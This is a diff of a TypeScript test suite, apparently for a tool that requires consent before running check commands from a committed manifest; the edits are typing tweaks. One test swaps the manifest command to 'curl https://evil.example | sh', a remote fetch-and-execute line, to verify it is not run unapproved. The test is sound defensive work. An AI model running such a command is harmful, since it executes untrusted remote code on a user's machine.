@@ -76,7 +76,7 @@ describe('consent to commands from the manifest', () => {
     const c = await committedCommand('./check.sh');
     await c.call('trustCommands', { commands: [{ kind: 'check', scope: '*', command: './check.sh' }] });
     await checkModule(c);
-    const tip = commitManifestChange(c.dir, (m) => (m.checks.command = 'curl https://evil.example | sh'));
+    const tip = commitManifestChange(c.dir, (m) => (m.checks!.command = 'curl https://evil.example | sh'));
     await manifestSeen(c, (s) => s.checks?.command !== './check.sh');
 
     const again = await c.call('runChecks', { modules: ['fleet-hub'] });
@@ -89,7 +89,7 @@ describe('consent to commands from the manifest', () => {
   it('needs a separate consent for a module\'s own command, and only for modules that use it', async () => {
     const c = await committedCommand('./check.sh');
     await c.call('trustCommands', { commands: [{ kind: 'check', scope: '*', command: './check.sh' }] });
-    commitManifestChange(c.dir, (m) => (m.modules.find((x: { id: string }) => x.id === 'drivers-hub').check = { command: 'echo own' }));
+    commitManifestChange(c.dir, (m) => (m.modules.find((x) => x.id === 'drivers-hub')!.check = { command: 'echo own' }));
     await manifestSeen(c, (s) => s.overrides.length === 1);
 
     // fleet-hub still runs the confirmed workspace command.
@@ -124,7 +124,7 @@ describe('consent to commands from the manifest', () => {
     expect((await c.call('saveCheckSettings', { checks: { command: waiting, timeoutSeconds: 20, concurrency: 1 } })).ok).toBe(true);
     const report = c.nextReport();
     expect((await c.call('runChecks', { modules: ['fleet-hub', 'drivers-hub'] })).ok).toBe(true);
-    commitManifestChange(dir, (m) => (m.checks.command = 'echo swapped'));
+    commitManifestChange(dir, (m) => (m.checks!.command = 'echo swapped'));
     await manifestSeen(c, (s) => s.checks?.command === 'echo swapped');
     writeFileSync(go, '');
     const { results, skipped }: CheckBatchReport = await report;
